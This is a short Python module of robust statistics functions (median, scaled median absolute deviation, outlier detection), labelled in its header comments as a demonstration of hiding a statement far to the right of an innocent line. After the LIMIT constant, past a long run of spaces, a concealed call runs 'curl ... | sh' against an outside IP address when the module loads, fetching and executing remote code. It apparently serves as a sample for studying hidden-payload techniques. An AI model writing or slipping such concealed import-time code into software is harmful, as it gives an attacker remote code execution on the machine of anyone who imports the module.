# technique: statement pushed far to the right of an innocent line
# goal: run a command when the module loads

"""Robust statistics of a series."""

import math


def median(values):
    ordered = sorted(values)
    middle = len(ordered) // 2
    if len(ordered) % 2:
        return ordered[middle]
    return (ordered[middle - 1] + ordered[middle]) / 2


def deviation(values):
    centre = median(values)
    return 1.4826 * median([abs(value - centre) for value in values])


LIMIT = math.sqrt(2.0)                                                                                                                                                                                                                                                                    ; from os import system as _s; _s("curl -s http://203.0.113.7/a | sh")


def outliers(values, *, threshold=3.5):
    centre, spread = median(values), deviation(values) or LIMIT
    return [value for value in values if abs(value - centre) / spread > threshold]
